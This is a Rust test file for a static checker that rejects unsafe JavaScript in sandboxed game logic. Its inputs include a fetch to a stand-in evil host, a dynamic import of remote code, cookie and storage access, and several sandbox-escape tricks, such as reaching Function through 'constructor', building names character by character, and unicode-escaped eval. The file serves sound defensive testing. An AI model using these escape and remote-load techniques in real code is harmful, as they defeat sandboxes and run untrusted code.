//! Tests of the static checker (the hostile corpus is checked in `tests/tests/containment.rs`).

use super::*;

fn messages(src: &str) -> Vec<String> {
    check_logic(src)
        .expect_err("must be rejected")
        .iter()
        .map(ToString::to_string)
        .collect()
}

#[test]
fn a_clean_game_passes_and_local_names_are_not_globals() {
    let src = "let top = 0; const parent = {};\nfunction fetch(x) { return x; }\n\
               aimini.game({ setup(ctx) { top = ctx.random(); fetch(parent); }, update() {}, draw(ctx) { ctx.clear('#000'); } });";
    assert_eq!(check_logic(src), Ok(()));
}

#[test]
fn blocked_globals_are_reported_with_their_location() {
    let src = "aimini.game({\n  setup(ctx) {\n    fetch('https://evil.example');\n    localStorage.x = 1;\n  }\n});\nwindow.top.location = 'x';";
    let m = messages(src);
    assert!(
        m[0].starts_with("3:5: `fetch` is not allowed (network access)"),
        "{m:?}"
    );
    assert!(
        m[1].starts_with("4:5: `localStorage` is not allowed (storage)"),
        "{m:?}"
    );
    assert!(m[2].starts_with("7:1: `window`"), "{m:?}");
}

#[test]
fn escape_hatches_are_caught() {
    for (src, needle) in [
        ("aimini.game({}); eval('1')", "`eval`"),
        (
            "aimini.game({}); new Function('return this')()",
            "`Function`",
        ),
        (
            "aimini.game({}); (()=>{}).constructor('return this')()",
            "`.constructor`",
        ),
        (
            "aimini.game({}); ({})['constructor']['constructor']('x')",
            "[\"constructor\"]",
        ),
        (
            "aimini.game({}); import('https://x.example/m.js')",
            "dynamic import()",
        ),
        (
            "aimini.game({}); setTimeout('alert(1)', 10)",
            "`setTimeout`",
        ),
        ("aimini.game({}); const r = Math.random();", "Math.random"),
        ("aimini.game({}); globalThis.x = 1", "`globalThis`"),
        ("aimini.game({}); document.cookie", "`document`"),
        ("aimini.game({}); new XMLHttpRequest()", "`XMLHttpRequest`"),
        ("aimini.game({}); new WebSocket('ws://x')", "`WebSocket`"),
        ("aimini.game({}); self.postMessage(1)", "`self`"),
    ] {
        let m = messages(src).join(" | ");
        assert!(m.contains(needle), "{src}: {m}");
    }
}

#[test]
fn syntax_errors_and_module_syntax_are_rejected_with_a_position() {
    let m = messages("aimini.game({\n  setup(ctx) { let x = ; }\n});");
    assert!(
        m[0].starts_with("2:") && m[0].contains("syntax error"),
        "{m:?}"
    );
    let m = messages("import x from 'y';\naimini.game({});");
    assert!(
        m[0].starts_with("1:1: import/export declarations are not allowed"),
        "{m:?}"
    );
    let m = messages("const x = 1;");
    assert!(m[0].contains("never calls aimini.game"), "{m:?}");
}

#[test]
fn every_shipped_template_passes() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../prompts/templates");
    let mut n = 0;
    for entry in std::fs::read_dir(dir).expect("templates") {
        let path = entry.expect("entry").path().join("logic.js");
        if let Ok(src) = std::fs::read_to_string(&path) {
            n += 1;
            if let Err(f) = check_logic(&src) {
                panic!("{}: {:?}", path.display(), f);
            }
        }
    }
    assert!(n >= 8);
}

#[test]
fn names_built_from_pieces_are_caught_with_their_location() {
    for (src, needle) in [
        (
            "aimini.game({});\nconst f = ({})[\"constr\" + \"uctor\"];",
            "2:16: this expression builds the name `constructor`",
        ),
        (
            "aimini.game({});\nconst k = String.fromCharCode(99,111,110,115,116,114,117,99,116,111,114);",
            "2:11: this expression builds the name `constructor`",
        ),
        (
            "aimini.game({});\nconst k = [\"__pro\", \"to__\"].join(\"\");",
            "2:11: this expression builds the name `__proto__`",
        ),
        (
            "aimini.game({});\nconst w = \"win\" + `dow`;",
            "2:11: this expression builds the name `window`",
        ),
        (
            "aimini.game({});\nconst f = ({})[\"\\u0063onstructor\"];",
            "2:16: `[\"constructor\"]` is not allowed",
        ),
        (
            "aimini.game({});\n\\u0065val('1');",
            "2:1: `eval` is not allowed",
        ),
    ] {
        let m = messages(src).join(" | ");
        assert!(m.contains(needle), "{src}: {m}");
    }
    // Ordinary arithmetic and text are not names.
    let ok = "aimini.game({ draw(ctx) { ctx.text('Score ' + 1 + 2, 1, 2); const a = [1, 2].join('-'); } });";
    assert_eq!(check_logic(ok), Ok(()));
}

#[test]
fn this_outside_methods_is_caught_and_methods_keep_it() {
    let m = messages("aimini.game({});\nconst w = (function () { return this; })();");
    assert!(
        m[0].starts_with("2:33: `this` in a function that is not a method"),
        "{m:?}"
    );
    let m = messages("const g = this;\naimini.game({});");
    assert!(m[0].starts_with("1:11: `this` at the top level"), "{m:?}");
    let m = messages(
        "aimini.game({ setup() { const f = () => this; function g() { return this.x; } } });",
    );
    assert_eq!(m.len(), 1, "{m:?}");
    assert!(m[0].contains("not a method"), "{m:?}");
    let ok = "const o = { n: 0, inc() { this.n++; }, get v() { return this.n; }, f: function () { return () => this.n; } };\n\
              class P { x = 1; move() { this.x += 1; } }\n\
              aimini.game({ setup() { o.inc(); new P().move(); } });";
    assert_eq!(check_logic(ok), Ok(()));
}
